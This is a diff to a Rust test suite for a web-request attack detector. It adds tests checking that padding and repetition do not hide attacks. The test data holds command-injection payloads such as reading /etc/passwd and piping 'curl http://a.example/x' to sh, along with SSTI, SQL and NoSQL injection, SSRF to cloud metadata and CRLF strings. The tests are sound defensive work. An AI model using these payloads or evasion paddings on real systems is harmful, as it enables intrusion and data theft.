@@ -3,7 +3,9 @@
 #![expect(clippy::unwrap_used, reason = "a test fails by panicking")]
 
 use engine::Engine;
+use proptest::{prelude::*, sample::Index};
 use shared::{InspectRequest, Sensitivity, score};
+use std::sync::LazyLock;
 
 /// A payload of each detector with rules that are disabled in documents.
 const PAYLOADS: &[(&str, &str)] = &[
@@ -114,6 +116,70 @@ fn padding_does_not_hide_an_attack() {
     assert!(missed.is_empty(), "{} missed:\n{}", missed.len(), missed.join("\n"));
     // Some payloads are no attacks in a cookie, a header or a path; fewer would be a regression.
     assert_eq!(inspected, 105, "pairs of a payload and a part in which it is an attack");
+}
+
+#[test]
+fn what_looks_like_a_comment_does_not_hide_a_command() {
+    let engine = Engine::new();
+    for payload in [";cat /etc/passwd", "`cat /etc/passwd`", "$(curl http://a.example/x|sh)", "$(sleep 10)"] {
+        for padding in [" # ", "a # ", "x\n# ", "photo #1 "] {
+            for part in [Part::Query, Part::Form, Part::Cookie] {
+                let value = escaped(&format!("{}{payload}", padding.repeat(20)));
+                assert!(
+                    types(&engine, &part.request(&value)).contains(&"rce".to_owned()),
+                    "{part:?} {value}"
+                );
+            }
+        }
+    }
+}
+
+/// Attacks in parts, and what may be repeated between them without a change of their meaning.
+const REPEATABLE: &[(&str, &[&str], &[&str])] = &[
+    ("ssti", &["{{", "7", "*", "7", "}}"], &[" ", "\n", "\t", "\r\n", "\u{a0}"]),
+    ("ssti", &["{{", "config", "}}"], &[" ", "\n", "\r\n"]),
+    ("ssti", &["", "{{7*7}}", ""], &["{{a}}", "${a}", "{b}", "<%c%>"]),
+    ("ssti", &["", "${7*7}"], &["{{a ", "{", "(", "<"]),
+    ("rce", &[";", "cat", " /etc/passwd"], &[" ", "\t"]),
+    ("rce", &[";", "cat /etc/passwd"], &["env ", "nice ", "exec ", "env -i ", "a=b ", "</dev/null "]),
+    ("rce", &["", ";cat /etc/passwd", ""], &[" # ", "a # ", "word ", " one two ", " '' ", " - "]),
+    ("rce", &["", "; wget http://a.example/x", ""], &[" a", " some words", " \"\""]),
+    ("rce", &["", "$(nslookup a.example)", ""], &["word ", "one two ", " # "]),
+    ("rce", &["; id", ""], &["\0", " ", "\n"]),
+    ("sqli", &["' or ", "1=1-- "], &["not ", "~", "- ", "+ ", "!", " ", "/**/"]),
+    ("sqli", &["' or 1", "=1-- "], &["+0", "*1", " ", "::int"]),
+    ("nosqli", &["';", "while(true){};'"], &[";", " ", "\n"]),
+    ("ssrf", &["ht", "tp://127.0.0.1/"], &["\t", "\n", "\r\n"]),
+    ("ssrf", &["http://", "x@169.254.169.254/"], &["a", "a:", "-"]),
+    ("ssrf", &["http:/", "/127.0.0.1/", ""], &["/", "\t"]),
+    ("ssrf", &["http://127.0", ".0.1/"], &["\u{2060}", "\u{fe0f}", "\u{ad}"]),
+    ("crlf", &["en\r\nSet-Cookie: a=b", ""], &["\n", "\r\n", " "]),
+    ("crlf", &["en", "\r\nSet-Cookie: a=b"], &["a", " "]),
+    ("crlf", &["en\r\n", "Set-Cookie: a=b"], &["X-Foo: 1\r\n", "A: b\n"]),
+];
+
+/// Keeps a case fast: a long unit is repeated less often.
+const MAX_PADDING: usize = 40_000;
+
+proptest! {
+    #![proptest_config(ProptestConfig::with_cases(400))]
+    /// Limits of detectors are not reached silently.
+    #[test]
+    fn repetition_hides_no_attack(
+        (attack_type, parts, units) in proptest::sample::select(REPEATABLE),
+        boundary in any::<Index>(),
+        unit in any::<Index>(),
+        count in prop_oneof![0..40_usize, 0..=20_000_usize],
+    ) {
+        static ENGINE: LazyLock<Engine> = LazyLock::new(Engine::new);
+        let (boundary, unit) = (1 + boundary.index(parts.len() - 1), units[unit.index(units.len())]);
+        let count = count.min(MAX_PADDING / unit.len());
+        let (before, after) = parts.split_at(boundary);
+        let value = [&before.concat(), &*unit.repeat(count), &after.concat()].concat();
+        let found = types(&ENGINE, &Part::Form.request(&escaped(&value)));
+        let is_reported = found.iter().any(|it| it == attack_type || it == "overlimit_res");
+        prop_assert!(is_reported, "{count} of {unit:?} at {boundary} of {parts:?}: {found:?}");
+    }
 }
 
 /// A long text that quotes code.
